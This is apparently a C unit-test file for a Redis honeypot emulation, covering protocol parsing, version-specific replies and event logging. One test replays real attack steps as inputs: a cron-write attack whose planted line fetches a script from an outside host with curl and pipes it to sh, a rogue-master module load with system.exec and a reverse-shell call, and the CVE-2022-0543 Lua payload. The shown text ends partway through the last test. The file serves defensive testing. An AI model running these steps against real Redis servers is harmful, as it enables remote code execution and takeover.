/*
 * test_redis.c - unit tests for the Redis emulation (src/proto/redis.c).
 *
 * Parser: RESP multibulk and inline commands (quotes, escapes, NUL), every
 * prefix of a command is "need more" without consuming, the real server's
 * protocol error texts.  Session (driven without a socket, events caught
 * with the output tap): replies and error texts per claimed version, INFO
 * as nmap's probe matches it, the cron-write attack and its stored file's
 * hash, REPLICAOF logged, AUTH with and without requirepass, QUIT.
 */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>
#include <openssl/evp.h>

#include "buf.h"
#include "event.h"
#include "output.h"
#include "reader.h"
#include "proto/redis.h"
#include "cpu_time.h"

/* ---- events caught from the tap ---- */

static char *evs[256];
static size_t nevs;

static void tap(struct hp_event *e, void *arg)
{
    (void)arg;
    if (nevs < 256)
        evs[nevs++] = strndup(e->json, e->json_len);
}

static void evs_reset(void)
{
    for (size_t i = 0; i < nevs; i++)
        free(evs[i]);
    nevs = 0;
}

/* The n-th event of a type, or NULL. */
static const char *ev_find(const char *eventid, int nth)
{
    char pat[96];
    snprintf(pat, sizeof(pat), "\"eventid\":\"%s\"", eventid);
    for (size_t i = 0; i < nevs; i++)
        if (strstr(evs[i], pat) && nth-- == 0)
            return evs[i];
    return NULL;
}

static size_t ev_count(const char *eventid)
{
    size_t n = 0;
    while (ev_find(eventid, (int)n))
        n++;
    return n;
}

/* ---- the parser ---- */

static int parse_str(const char *s, size_t n, struct hp_redis_cmd *cmd, char *err, size_t *used)
{
    struct hp_rd r;
    hp_rd_init(&r, s, n);
    int rc = hp_redis_parse(&r, cmd, err, 128);
    *used = hp_rd_pos(&r);
    return rc;
}

static bool arg_is(const struct hp_redis_cmd *c, size_t i, const char *s)
{
    return i < c->argc && c->argl[i] == strlen(s) && memcmp(c->argv[i], s, c->argl[i]) == 0;
}

static void test_parse_multibulk(void **st)
{
    (void)st;
    static struct hp_redis_cmd cmd;
    char err[128];
    size_t used;
    const char *m = "*3\r\n$3\r\nSET\r\n$1\r\nx\r\n$5\r\na\r\nb\0\r\n*1\r\n$4\r\nPING\r\n";
    size_t first = 31;
    assert_int_equal(parse_str(m, first + 14, &cmd, err, &used), 1);
    assert_int_equal(used, first);
    assert_int_equal(cmd.argc, 3);
    assert_true(arg_is(&cmd, 0, "SET") && arg_is(&cmd, 1, "x"));
    assert_int_equal(cmd.argl[2], 5);
    assert_memory_equal(cmd.argv[2], "a\r\nb\0", 5);
    for (size_t n = 0; n < first; n++) {          /* every prefix: wait, consume nothing */
        assert_int_equal(parse_str(m, n, &cmd, err, &used), 0);
        assert_int_equal(used, 0);
    }
    for (size_t n = 0; n <= first; n++) {         /* the same, going on from the last call */
        struct hp_rd r;
        hp_rd_init(&r, m, n);
        assert_int_equal(hp_redis_parse_next(&r, &cmd, err, 128), n == first);
        assert_int_equal(hp_rd_pos(&r), n == first ? first : 0);
    }
    assert_int_equal(cmd.argc, 3);
    assert_true(arg_is(&cmd, 0, "SET") && arg_is(&cmd, 1, "x"));
    assert_memory_equal(cmd.argv[2], "a\r\nb\0", 5);
    assert_int_equal(parse_str("*0\r\n", 4, &cmd, err, &used), 1);
    assert_int_equal(cmd.argc, 0);
    assert_int_equal(used, 4);
    assert_int_equal(parse_str("*-1\r\n", 5, &cmd, err, &used), 1);
    assert_int_equal(cmd.argc, 0);
    hp_redis_cmd_free(&cmd);
}

static void test_parse_errors(void **st)
{
    (void)st;
    static struct hp_redis_cmd cmd;
    char err[128];
    size_t used;
    assert_int_equal(parse_str("*x\r\n", 4, &cmd, err, &used), -1);
    assert_string_equal(err, "Protocol error: invalid multibulk length");
    assert_int_equal(parse_str("*+1\r\n", 5, &cmd, err, &used), -1);
    assert_int_equal(parse_str("*5000\r\n", 7, &cmd, err, &used), -1);
    assert_string_equal(err, "Protocol error: invalid multibulk length");
    assert_int_equal(parse_str("*1\r\n!3\r\n", 8, &cmd, err, &used), -1);
    assert_string_equal(err, "Protocol error: expected '$', got '!'");
    assert_int_equal(parse_str("*1\r\n$-3\r\n", 9, &cmd, err, &used), -1);
    assert_string_equal(err, "Protocol error: invalid bulk length");
    assert_int_equal(parse_str("*1\r\n$99999999\r\n", 16, &cmd, err, &used), -1);
    assert_string_equal(err, "Protocol error: invalid bulk length");
    assert_int_equal(parse_str("set \"a b\"x\r\n", 12, &cmd, err, &used), -1);
    assert_string_equal(err, "Protocol error: unbalanced quotes in request");
    assert_int_equal(parse_str("set 'abc\r\n", 10, &cmd, err, &used), -1);
    size_t big = HP_REDIS_INLINE_MAX + 10;
    char *junk = malloc(big);
    memset(junk, 'A', big);
    assert_int_equal(parse_str(junk, big, &cmd, err, &used), -1);
    assert_string_equal(err, "Protocol error: too big inline request");
    junk[0] = '*';
    assert_int_equal(parse_str(junk, big, &cmd, err, &used), -1);
    assert_string_equal(err, "Protocol error: too big mbulk count string");
    free(junk);
    hp_redis_cmd_free(&cmd);
}

static void test_parse_inline(void **st)
{
    (void)st;
    static struct hp_redis_cmd cmd;
    char err[128];
    size_t used;
    const char *l = "  set  k \"\\n\\x41\\\"q\" 'it\\'s' plain\r\nPING\n";
    assert_int_equal(parse_str(l, strlen(l), &cmd, err, &used), 1);
    assert_true(cmd.is_inline);
    assert_int_equal(cmd.argc, 5);
    assert_true(arg_is(&cmd, 0, "set") && arg_is(&cmd, 1, "k") && arg_is(&cmd, 2, "\nA\"q"));
    assert_true(arg_is(&cmd, 3, "it's") && arg_is(&cmd, 4, "plain"));
    assert_int_equal(parse_str(l + used, strlen(l) - used, &cmd, err, &used), 1);
    assert_true(arg_is(&cmd, 0, "PING"));
    assert_int_equal(parse_str("\r\n", 2, &cmd, err, &used), 1);
    assert_int_equal(cmd.argc, 0);
    assert_int_equal(parse_str("PING", 4, &cmd, err, &used), 0);
    /* the server looks for the line end with strchr(): a NUL before it hides
     * it, so the command waits (redis-server 7.0.15 answers nothing) until
     * the 64 KiB limit; the same for a count line */
    assert_int_equal(parse_str("GET a\0b c\r\n", 11, &cmd, err, &used), 0);
    assert_int_equal(used, 0);
    assert_int_equal(parse_str("*1\0\r\n$4\r\nPING\r\n", 15, &cmd, err, &used), 0);
    assert_int_equal(parse_str("*1\r\n$4\0\r\nPING\r\n", 15, &cmd, err, &used), 0);
    assert_int_equal(parse_str("PING\r\nGET a\0\r\n", 14, &cmd, err, &used), 1);
    hp_redis_cmd_free(&cmd);
}

/* ---- sessions ---- */

struct sess {
    struct hp_redis_conf conf;
    struct hp_evctx ctx;
    struct hp_redis_sess *s;
    struct hp_buf out;
    bool closed;
};

static void sess_open(struct sess *t, const char *version, const char *pass)
{
    memset(t, 0, sizeof(*t));
    assert_int_equal(hp_redis_set_version(version), 0);
    t->conf.version = (char *)version;
    t->conf.requirepass = (char *)pass;
    t->conf.port = 6379;
    snprintf(t->ctx.session, sizeof(t->ctx.session), "0123456789ab");
    t->ctx.protocol = "redis";
    t->ctx.transport = "tcp";
    snprintf(t->ctx.src_ip, sizeof(t->ctx.src_ip), "192.0.2.9");
    t->ctx.src_port = 40000;
    t->s = hp_redis_sess_new(&t->conf, &t->ctx, "192.0.2.9:40000");
    hp_buf_init(&t->out, 8 * 1024 * 1024);
    evs_reset();
}

/* Feed bytes, return the replies (NUL-terminated, valid until the next call). */
static const char *feed_rd(struct sess *t, struct hp_rd *r)
{
    hp_buf_reset(&t->out);
    t->closed = hp_redis_feed(t->s, r, &t->out);
    return hp_buf_cstr(&t->out);
}

static const char *feed(struct sess *t, const char *in, size_t n)
{
    struct hp_rd r;
    hp_rd_init(&r, in, n);
    return feed_rd(t, &r);
}

static const char *feeds(struct sess *t, const char *in)
{
    return feed(t, in, strlen(in));
}

static void sess_close(struct sess *t)
{
    hp_redis_sess_free(t->s);
    hp_buf_free(&t->out);
}

static void test_basic_replies(void **st)
{
    (void)st;
    struct sess t;
    sess_open(&t, "6.0.16", NULL);
    assert_string_equal(feeds(&t, "*1\r\n$4\r\nPING\r\n"), "+PONG\r\n");
    assert_string_equal(feeds(&t, "PING hello\r\nECHO \"a b\"\r\n"), "$5\r\nhello\r\n$3\r\na b\r\n");
    assert_string_equal(feeds(&t, "foo bar baz\r\n"),
                        "-ERR unknown command `foo`, with args beginning with: `bar`, `baz`, \r\n");
    assert_string_equal(feeds(&t, "GET\r\n"), "-ERR wrong number of arguments for 'get' command\r\n");
    assert_string_equal(feeds(&t, "SELECT 16\r\n"), "-ERR DB index is out of range\r\n");
    assert_string_equal(feeds(&t, "SET a 1\r\nSET b 2\r\nSET hello 3\r\nKEYS h?llo\r\nDBSIZE\r\n"),
                        "+OK\r\n+OK\r\n+OK\r\n*1\r\n$5\r\nhello\r\n:3\r\n");
    assert_string_equal(feeds(&t, "KEYS [ab]\r\nEXISTS a b c a\r\nTYPE a\r\nTTL a\r\nTTL zz\r\n"),
                        "*2\r\n$1\r\na\r\n$1\r\nb\r\n:3\r\n+string\r\n:-1\r\n:-2\r\n");
    assert_string_equal(feeds(&t, "DEL a zz\r\nGET a\r\nFLUSHALL\r\nDBSIZE\r\n"), ":1\r\n$-1\r\n+OK\r\n:0\r\n");
    evs_reset();
    assert_string_equal(feeds(&t, "SHUTDOWN\r\n"), "-ERR Errors trying to SHUTDOWN. Check logs.\r\n");
    assert_false(t.closed);
    /* every command is one command.input with the text */
    assert_int_equal(ev_count("command.input"), 1);
    assert_non_null(strstr(evs[0], "\"input\":\"SHUTDOWN\""));
    assert_string_equal(feeds(&t, "QUIT\r\nPING\r\n"), "+OK\r\n");
    assert_true(t.closed);
    sess_close(&t);

    sess_open(&t, "7.0.15", NULL);
    assert_string_equal(feeds(&t, "foo bar\r\n"), "-ERR unknown command 'foo', with args beginning with: 'bar' \r\n");
    assert_string_equal(feeds(&t, "CONFIG FOO\r\n"), "-ERR unknown subcommand 'FOO'. Try CONFIG HELP.\r\n");
    sess_close(&t);
}

/* Replies of redis-server 7.0.15 (Debian 12) where the emulation differed,
 * each observed on the real server with the command quoted. */
static void test_v7_differential(void **st)
{
    (void)st;
    struct sess t;
    sess_open(&t, "7.0.15", NULL);
    /* MODULE LOAD / CLIENT SETNAME / COMMAND COUNT x / MODULE LIST x: a subcommand's arity */
    assert_string_equal(feeds(&t, "MODULE LOAD\r\n"), "-ERR wrong number of arguments for 'module|load' command\r\n");
    assert_string_equal(feeds(&t, "client SETNAME\r\n"),
                        "-ERR wrong number of arguments for 'client|setname' command\r\n");
    assert_string_equal(feeds(&t, "COMMAND COUNT x\r\n"),
                        "-ERR wrong number of arguments for 'command|count' command\r\n");
    assert_string_equal(feeds(&t, "MODULE LIST x\r\n"), "-ERR wrong number of arguments for 'module|list' command\r\n");
    assert_string_equal(feeds(&t, "CLIENT x\r\n"), "-ERR unknown subcommand 'x'. Try CLIENT HELP.\r\n");
    /* CLIENT LIST x; CLIENT INFO names itself */
    assert_string_equal(feeds(&t, "CLIENT LIST x\r\n"), "-ERR syntax error\r\n");
    assert_non_null(strstr(feeds(&t, "CLIENT INFO\r\n"), " cmd=client|info user=default "));
    /* COMMAND INFO nosuch */
    assert_string_equal(feeds(&t, "COMMAND INFO nosuch\r\n"), "*1\r\n$-1\r\n");
    /* SELECT x */
    assert_string_equal(feeds(&t, "SELECT x\r\n"), "-ERR value is not an integer or out of range\r\n");
    /* HELLO 4 */
    assert_string_equal(feeds(&t, "HELLO 4\r\n"), "-NOPROTO unsupported protocol version\r\n");
    /* CONFIG SET dir a b */
    assert_string_equal(feeds(&t, "CONFIG SET dir a b\r\n"), "-ERR syntax error\r\n");
    /* SLAVEOF h x / h 99999 / h -1: refused, still recorded */
    evs_reset();
    assert_string_equal(feeds(&t, "SLAVEOF h x\r\nSLAVEOF h 99999\r\nSLAVEOF h -1\r\n"),
                        "-ERR Invalid master port\r\n-ERR Invalid master port\r\n-ERR Invalid master port\r\n");
    assert_int_equal(ev_count("command.input"), 3);
    assert_int_equal(ev_count("redis.replicaof"), 3);
    assert_non_null(strstr(feeds(&t, "INFO replication\r\n"), "role:master"));
    /* SET a b, EXPIRE a 10 NX/FOO/NX XX/GT LT, TTL */
    assert_string_equal(feeds(&t, "SET a b\r\nEXPIRE a 10 FOO\r\nEXPIRE a 10 NX XX\r\nEXPIRE a 10 GT LT\r\n"),
                        "+OK\r\n-ERR Unsupported option FOO\r\n"
                        "-ERR NX and XX, GT or LT options at the same time are not compatible\r\n"
                        "-ERR GT and LT options at the same time are not compatible\r\n");
    assert_string_equal(feeds(&t, "EXPIRE a 10 XX\r\nEXPIRE a 10 GT\r\nEXPIRE a 10 NX\r\nEXPIRE a 10 NX\r\n"),
                        ":0\r\n:0\r\n:1\r\n:0\r\n");
    assert_string_equal(feeds(&t, "EXPIRE a 5 GT\r\nEXPIRE a 5 LT\r\nTTL a\r\nEXPIRE a x FOO\r\n"),
                        ":0\r\n:1\r\n:5\r\n-ERR Unsupported option FOO\r\n");
    /* EXPIRE a 99999999999999999 (with and without the key); SET a b EX 9999999999999 */
    assert_string_equal(feeds(&t, "EXPIRE zz 99999999999999999\r\nEXPIRE a 99999999999999999\r\n"),
                        "-ERR invalid expire time in 'expire' command\r\n"
                        "-ERR invalid expire time in 'expire' command\r\n");
    assert_string_equal(feeds(&t, "SET a b EX 9999999999999\r\nTTL a\r\nSET a b EX 0\r\n"),
                        "+OK\r\n:9999999999999\r\n-ERR invalid expire time in 'set' command\r\n");
    assert_string_equal(feeds(&t, "SET a b PX 9223372036854775807\r\nSETEX a 9223372036854775 v\r\n"),
                        "-ERR invalid expire time in 'set' command\r\n"
                        "-ERR invalid expire time in 'setex' command\r\n");
    /* CONFIG SET requirepass x, PING, AUTH x, CONFIG SET requirepass "" */
    assert_string_equal(feeds(&t, "CONFIG SET requirepass x\r\nPING\r\nAUTH x\r\nCONFIG SET requirepass \"\"\r\n"),
                        "+OK\r\n+PONG\r\n+OK\r\n+OK\r\n");
    assert_string_equal(feeds(&t, "AUTH x\r\n"),
                        "-ERR AUTH <password> called without any password configured for the default user. "
                        "Are you sure your configuration is correct?\r\n");
    /* SHUTDOWN x; SHUTDOWN NOSAVE x */
    assert_string_equal(feeds(&t, "SHUTDOWN x\r\nSHUTDOWN NOSAVE x\r\n"), "-ERR syntax error\r\n-ERR syntax error\r\n");
    /* HELLO -1; HELLO 2 SETNAME "a b"; SCRIPT FLUSH x */
    assert_string_equal(feeds(&t, "HELLO -1\r\n"), "-NOPROTO unsupported protocol version\r\n");
    assert_string_equal(feeds(&t, "HELLO 2 SETNAME \"a b\"\r\n"),
                        "-ERR Client names cannot contain spaces, newlines or special characters.\r\n");
    assert_string_equal(feeds(&t, "SCRIPT FLUSH x\r\n"), "-ERR SCRIPT FLUSH only support SYNC|ASYNC option\r\n");
    /* CLIENT PAUSE x; CLIENT NO-EVICT x (the server's timeout and option checks) */
    assert_string_equal(feeds(&t, "CLIENT PAUSE x\r\nCLIENT PAUSE -5\r\nCLIENT PAUSE 0\r\n"),
                        "-ERR timeout is not an integer or out of range\r\n-ERR timeout is negative\r\n+OK\r\n");
    assert_string_equal(feeds(&t, "CLIENT NO-EVICT x\r\nCLIENT NO-EVICT on\r\n"), "-ERR syntax error\r\n+OK\r\n");
    sess_close(&t);

    /* 6.2 keeps its texts and EXPIRE's fixed arity */
    sess_open(&t, "6.2.14", NULL);
    assert_string_equal(feeds(&t, "SET a b\r\nEXPIRE a 10 NX\r\n"),
                        "+OK\r\n-ERR wrong number of arguments for 'expire' command\r\n");
    assert_string_equal(feeds(&t, "MODULE LOAD\r\n"),
                        "-ERR Unknown subcommand or wrong number of arguments for 'LOAD'. Try MODULE HELP.\r\n");
    assert_string_equal(feeds(&t, "SELECT x\r\n"), "-ERR invalid DB index\r\n");
    assert_string_equal(feeds(&t, "COMMAND INFO nosuch\r\n"), "*1\r\n*-1\r\n");
    sess_close(&t);
}

/* A byte string with NULs (length given). */
#define FEEDB(t, lit) feed((t), (lit), sizeof(lit) - 1)

/* Second differential pass against redis-server 7.0.15 (Debian 12, run by
 * hand with enable-protected-configs and enable-module-command yes); each
 * reply below is that server's, byte for byte. */
static void test_v7_differential2(void **st)
{
    (void)st;
    struct sess t;
    sess_open(&t, "7.0.15", NULL);
    /* "PING\0x\r\n": nothing, then PING: still nothing; past 64 KiB the
     * inline limit, as the count lines' */
    assert_string_equal(FEEDB(&t, "PING\0x\r\n"), "");
    assert_false(t.closed);
    assert_int_equal(ev_count("command.input"), 1);          /* still recorded, once */
    assert_non_null(strstr(ev_find("command.input", 0), "\"incomplete\":true"));
    assert_string_equal(FEEDB(&t, "PING\0x\r\nPING\r\n"), "");
    assert_int_equal(ev_count("command.input"), 1);
    static char big[70000];
    memset(big, 'A', sizeof(big));
    memcpy(big, "PING\0x\r\nPING\r\n", 14);
    assert_string_equal(feed(&t, big, sizeof(big)), "-ERR Protocol error: too big inline request\r\n");
    assert_true(t.closed);
    sess_close(&t);
    sess_open(&t, "7.0.15", NULL);
    memcpy(big, "*1\0\r\n", 5);
    assert_string_equal(feed(&t, big, sizeof(big)), "-ERR Protocol error: too big mbulk count string\r\n");
    sess_close(&t);
    sess_open(&t, "7.0.15", NULL);
    memcpy(big, "*1\r\n$4\0\r\n", 9);
    assert_string_equal(feed(&t, big, sizeof(big)), "-ERR Protocol error: too big bulk count string\r\n");
    sess_close(&t);

    sess_open(&t, "7.0.15", NULL);
    /* SET EXAT/PXAT; one unit twice takes the last; options before the time */
    assert_string_equal(feeds(&t, "SET a b EXAT 1\r\nGET a\r\nSET a b EX 10 EX 20\r\nTTL a\r\n"),
                        "+OK\r\n$-1\r\n+OK\r\n:20\r\n");
    assert_string_equal(feeds(&t, "SET a b EXAT 0\r\nSET a b PXAT x\r\nSET a b EX x FOO\r\nSET a b EX 0 FOO\r\n"),
                        "-ERR invalid expire time in 'set' command\r\n-ERR value is not an integer or out of range\r\n"
                        "-ERR syntax error\r\n-ERR syntax error\r\n");
    assert_string_equal(feeds(&t, "SET a b EXAT 9223372036854776\r\nSET a b EX 10 EXAT 99999999999\r\n"
                                  "SET a b KEEPTTL EXAT 5\r\nSET a b NX XX\r\n"),
                        "-ERR invalid expire time in 'set' command\r\n-ERR syntax error\r\n-ERR syntax error\r\n"
                        "-ERR syntax error\r\n");
    assert_string_equal(feeds(&t, "SET a b PXAT 1000\r\nSET a c KEEPTTL GET\r\nPTTL a\r\n"),
                        "+OK\r\n$-1\r\n:-1\r\n");   /* a PXAT in 1970: gone at once */
    /* SCAN's cursor is strtoul()'s */
    assert_string_equal(feeds(&t, "DEL a\r\n"), ":1\r\n");
    assert_string_equal(feeds(&t, "SCAN -1\r\nSCAN ''\r\nSCAN +0\r\n"),
                        "*2\r\n$1\r\n0\r\n*0\r\n*2\r\n$1\r\n0\r\n*0\r\n*2\r\n$1\r\n0\r\n*0\r\n");
    assert_string_equal(feeds(&t, "SCAN x\r\nSCAN ' 0'\r\nSCAN 0x1\r\nSCAN 18446744073709551616\r\n"),
                        "-ERR invalid cursor\r\n-ERR invalid cursor\r\n-ERR invalid cursor\r\n-ERR invalid cursor\r\n");
    /* CLIENT PAUSE t WRITE|ALL: the mode first, then the time */
    assert_string_equal(feeds(&t, "CLIENT PAUSE 10 WRITE\r\nCLIENT PAUSE 10 ALL\r\nCLIENT PAUSE x y\r\n"
                                  "CLIENT PAUSE 10 WRITE x\r\n"),
                        "+OK\r\n+OK\r\n-ERR CLIENT PAUSE mode must be WRITE or ALL\r\n"
                        "-ERR unknown subcommand or wrong number of arguments for 'PAUSE'. Try CLIENT HELP.\r\n");
    /* CONFIG SET checks each value as its type; CONFIG GET shows it normalised */
    assert_string_equal(feeds(&t, "CONFIG SET appendonly maybe\r\nCONFIG SET protected-mode NO\r\n"
                                  "CONFIG GET protected-mode\r\n"),
                        "-ERR CONFIG SET failed (possibly related to argument 'appendonly') - argument must be 'yes' "
                        "or 'no'\r\n+OK\r\n*2\r\n$14\r\nprotected-mode\r\n$2\r\nno\r\n");
    assert_string_equal(feeds(&t, "CONFIG SET maxmemory x\r\nCONFIG SET maxmemory 1gb\r\nCONFIG GET maxmemory\r\n"),
                        "-ERR CONFIG SET failed (possibly related to argument 'maxmemory') - argument must be a memory "
                        "value\r\n+OK\r\n*2\r\n$9\r\nmaxmemory\r\n$10\r\n1073741824\r\n");
    assert_string_equal(feeds(&t, "CONFIG SET save 900\r\nCONFIG SET save '09 01'\r\nCONFIG GET save\r\n"),
                        "-ERR CONFIG SET failed (possibly related to argument 'save') - Invalid save parameters\r\n"
                        "+OK\r\n*2\r\n$4\r\nsave\r\n$3\r\n9 1\r\n");
    assert_string_equal(feeds(&t, "CONFIG SET slave-read-only x\r\nCONFIG SET stop-writes-on-bgsave-error 0\r\n"),
                        "-ERR CONFIG SET failed (possibly related to argument 'slave-read-only') - argument must be "
                        "'yes' or 'no'\r\n-ERR CONFIG SET failed (possibly related to argument "
                        "'stop-writes-on-bgsave-error') - argument must be 'yes' or 'no'\r\n");
    assert_string_equal(feeds(&t, "CONFIG SET timeout -1\r\nCONFIG SET TIMEOUT x\r\nCONFIG SET loglevel x\r\n"),
                        "-ERR CONFIG SET failed (possibly related to argument 'timeout') - argument must be between 0 "
                        "and 2147483647 inclusive\r\n-ERR CONFIG SET failed (possibly related to argument 'timeout') - "
                        "argument couldn't be parsed into an integer\r\n-ERR CONFIG SET failed (possibly related to "
                        "argument 'loglevel') - argument(s) must be one of the following: debug, verbose, notice, "
                        "warning\r\n");
    assert_string_equal(feeds(&t, "CONFIG SET timeout 1 timeout 2\r\nCONFIG SET rdbchecksum no\r\n"
                                  "CONFIG SET timeout 5 maxmemory x\r\nCONFIG GET Timeout\r\n"),
                        "-ERR CONFIG SET failed (possibly related to argument 'timeout') - duplicate parameter\r\n"
                        "-ERR CONFIG SET failed (possibly related to argument 'rdbchecksum') - can't set immutable "
                        "config\r\n-ERR CONFIG SET failed (possibly related to argument 'maxmemory') - argument must "
                        "be a memory value\r\n*2\r\n$7\r\nTimeout\r\n$1\r\n5\r\n");
    assert_string_equal(feeds(&t, "CONFIG SET dbfilename ''\r\nCONFIG SET rdbcompression no dbfilename root\r\n"),
                        "+OK\r\n+OK\r\n");
    /* CONFIG GET * has 7.0.15's 192 parameters */
    assert_non_null(strstr(feeds(&t, "CONFIG GET *\r\n"), "*384\r\n"));
    assert_non_null(strstr(feeds(&t, "CONFIG GET *\r\n"), "$33\r\nlatency-tracking-info-percentiles\r\n"));
    /* INFO: 7.0's fields, several sections, errorstats by default, by code */
    evs_reset();
    const char *r = feeds(&t, "INFO\r\n");
    assert_non_null(strstr(r, "\r\nallocator_allocated:"));
    assert_non_null(strstr(r, "\r\nused_memory_vm_total_human:65.00K\r\n"));
    assert_non_null(strstr(r, "\r\nmem_allocator:jemalloc-5.3.0\r\n"));
    assert_non_null(strstr(r, "\r\nrdb_last_bgsave_time_sec:-1\r\nrdb_current_bgsave_time_sec:-1\r\nrdb_saves:0\r\n"));
    assert_non_null(strstr(r, "\r\nreply_buffer_expands:0\r\n\r\n# Replication\r\n"));
    assert_non_null(strstr(r, "\r\nused_cpu_user_main_thread:"));
    assert_non_null(strstr(r, "\r\n# Modules\r\n\r\n# Errorstats\r\nerrorstat_ERR:count="));
    assert_int_equal(ev_count("command.input"), 1);
    feeds(&t, "CONFIG SET requirepass pw\r\nAUTH bad\r\n");
    r = feeds(&t, "INFO errorstats server\r\n");
    assert_non_null(strstr(r, "# Server\r\n"));
    assert_non_null(strstr(r, "\r\n# Errorstats\r\nerrorstat_ERR:count="));
    assert_non_null(strstr(r, "\r\nerrorstat_WRONGPASS:count=1\r\n"));
    sess_close(&t);

    /* 6.2 keeps its own: one INFO section, no 7.0 fields */
    sess_open(&t, "6.2.14", NULL);
    assert_string_equal(feeds(&t, "INFO server clients\r\n"), "-ERR syntax error\r\n");
    r = feeds(&t, "INFO\r\n");
    assert_null(strstr(r, "rdb_saves"));
    assert_null(strstr(r, "Errorstats"));
    assert_non_null(strstr(r, "\r\nallocator_allocated:"));
    sess_close(&t);
}

static void test_info_like_nmap(void **st)
{
    (void)st;
    struct sess t;
    sess_open(&t, "5.0.14", NULL);
    const char *r = feeds(&t, "*1\r\n$4\r\ninfo\r\n");
    size_t len = strlen(r);
    assert_true(len > 1000);
    assert_int_equal(strncmp(r, "$", 1), 0);
    const char *body = strstr(r, "\r\n") + 2;
    assert_int_equal(strncmp(body, "# Server\r\nredis_version:5.0.14\r\n", 32), 0);
    assert_int_equal((size_t)atoi(r + 1), len - (size_t)(body - r) - 2);
    assert_non_null(strstr(r, "\r\nrole:master\r\n"));
    assert_non_null(strstr(r, "\r\nos:Linux "));
    assert_non_null(strstr(r, "\r\n# Keyspace\r\n"));
    assert_null(strstr(r, "io_threads_active"));    /* not in 5.0 */
    r = feeds(&t, "INFO server\r\n");
    assert_null(strstr(r, "# Clients"));
    sess_close(&t);
}

static void sha256_hex(const void *p, size_t n, char out[65])
{
    unsigned char md[32];
    unsigned ml = 0;
    EVP_Digest(p, n, md, &ml, EVP_sha256(), NULL);
    for (int i = 0; i < 32; i++)
        snprintf(out + 2 * i, 3, "%02x", md[i]);
}

static void test_cron_attack(void **st)
{
    (void)st;
    struct sess t;
    sess_open(&t, "6.2.14", NULL);
    const char *val = "\n\n*/1 * * * * curl -fsSL http://198.51.100.7/x.sh | sh\n\n";
    char cmd[512];
    snprintf(cmd, sizeof(cmd), "*3\r\n$3\r\nset\r\n$7\r\nbackup1\r\n$%zu\r\n%s\r\n", strlen(val), val);
    assert_string_equal(feeds(&t, "config set dir /var/spool/cron/\r\nconfig set dbfilename root\r\n"),
                        "+OK\r\n+OK\r\n");
    assert_string_equal(feeds(&t, cmd), "+OK\r\n");
    assert_string_equal(feeds(&t, "CONFIG GET dir\r\n"), "*2\r\n$3\r\ndir\r\n$15\r\n/var/spool/cron\r\n");
    assert_string_equal(feeds(&t, "config set dbfilename ../../etc/x\r\n"),
                        "-ERR Invalid argument '../../etc/x' for CONFIG SET 'dbfilename'\r\n");
    assert_string_equal(feeds(&t, "SAVE\r\n"), "+OK\r\n");
    const char *fw = ev_find("redis.file_write", 0);
    assert_non_null(fw);
    char sha[65], want[100];
    sha256_hex(val, strlen(val), sha);
    snprintf(want, sizeof(want), "\"sha256\":\"%s\"", sha);
    assert_non_null(strstr(fw, want));
    assert_non_null(strstr(fw, "\"path\":\"/var/spool/cron/root\""));
    const char *up = ev_find("session.file_upload", 0);
    assert_non_null(up);
    assert_non_null(strstr(up, sha));
    /* a module that never came from a master does not load */
    assert_string_equal(feeds(&t, "MODULE LOAD /tmp/exp.so\r\n"),
                        "-ERR Error loading the extension. Please check the server logs.\r\n");
    assert_string_equal(feeds(&t, "system.exec id\r\n"),
                        "-ERR unknown command `system.exec`, with args beginning with: `id`, \r\n");
    /* REPLICAOF: logged, the role changes, nothing else happens */
    assert_string_equal(feeds(&t, "SLAVEOF 203.0.113.5 21000\r\n"), "+OK\r\n");
    const char *ro = ev_find("redis.replicaof", 0);
    assert_non_null(ro);
    assert_non_null(strstr(ro, "\"host\":\"203.0.113.5\",\"port\":21000"));
    assert_non_null(strstr(feeds(&t, "INFO replication\r\n"), "role:slave\r\nmaster_host:203.0.113.5\r\n"));
    /* the rogue master's exp.so: after the SLAVEOF it loads, and its system.exec
     * answers with what the command prints on the emulated machine (never run) */
    assert_string_equal(feeds(&t, "MODULE LOAD ./exp.so\r\n"), "+OK\r\n");
    assert_non_null(strstr(ev_find("redis.module_load", 1), "\"loaded\":true"));
    assert_non_null(strstr(ev_find("redis.module_load", 0), "\"loaded\":false"));
    assert_string_equal(feeds(&t, "MODULE LIST\r\n"), "*1\r\n*4\r\n$4\r\nname\r\n$6\r\nsystem\r\n$3\r\nver\r\n:1\r\n");
    assert_string_equal(feeds(&t, "system.exec \"echo $((6*7)); whoami; nosuch\"\r\n"), "$9\r\n42\nredis\n\r\n");
    assert_string_equal(feeds(&t, "SYSTEM.EXEC\r\n"), "-ERR wrong number of arguments for 'system.exec' command\r\n");
    assert_string_equal(feeds(&t, "system.rev 203.0.113.5 4444\r\n"), "+OK\r\n");
    assert_string_equal(feeds(&t, "MODULE LOAD ./exp.so\r\n"),          /* a second load: the name is taken */
                        "-ERR Error loading the extension. Please check the server logs.\r\n");
    assert_string_equal(feeds(&t, "MODULE UNLOAD system\r\n"), "+OK\r\n");
    assert_string_equal(feeds(&t, "MODULE LIST\r\n"), "*0\r\n");
    assert_string_equal(feeds(&t, "EVAL \"return 1\" 0\r\n"), "$-1\r\n");
    assert_string_equal(feeds(&t, "EVAL \"x\" 2 a\r\n"), "-ERR Number of keys can't be greater than number of args\r\n");
    assert_int_equal(ev_count("redis.eval"), 1);
    assert_null(strstr(ev_find("redis.eval", 0), "cves"));
    /* CVE-2022-0543: the public exploit's loadlib of liblua's io library */
    assert_non_null(strstr(feeds(&t, "EVAL \"local io_l = package.loadlib('/usr/lib/x86_64-linux-gnu/liblua5.1.so.0',"
                                     " 'luaopen_io'); local io = io_l(); return 1\" 0\r\n"), "package"));
    assert_int_equal(ev_count("redis.eval"), 2);
    assert_non_null(strstr(ev_find("redis.eval", 1), "\"attack_classes\":[\"rce\"],\"cves\":[\"CVE-2022-0543\"]"));
    sess_close(&t);
}

static void test_auth(void **st)
{
    (void)st;
    struct sess t;
    sess_open(&t, "6.0.16", NULL);                   /* no password: AUTH is an error, commands work */
    assert_string_equal(feeds(&t, "AUTH foo\r\n"),
                        "-ERR AUTH <password> called without any password configured for the default user. "
                        "Are you sure your configuration is correct?\r\n");
    assert_non_null(strstr(ev_find("login.failed", 0), "\"username\":\"default\",\"password\":\"foo\""));
    sess_close(&t);

    sess_open(&t, "7.0.15", "s3cret");
    assert_string_equal(feeds(&t, "GET x\r\n"), "-NOAUTH Authentication required.\r\n");
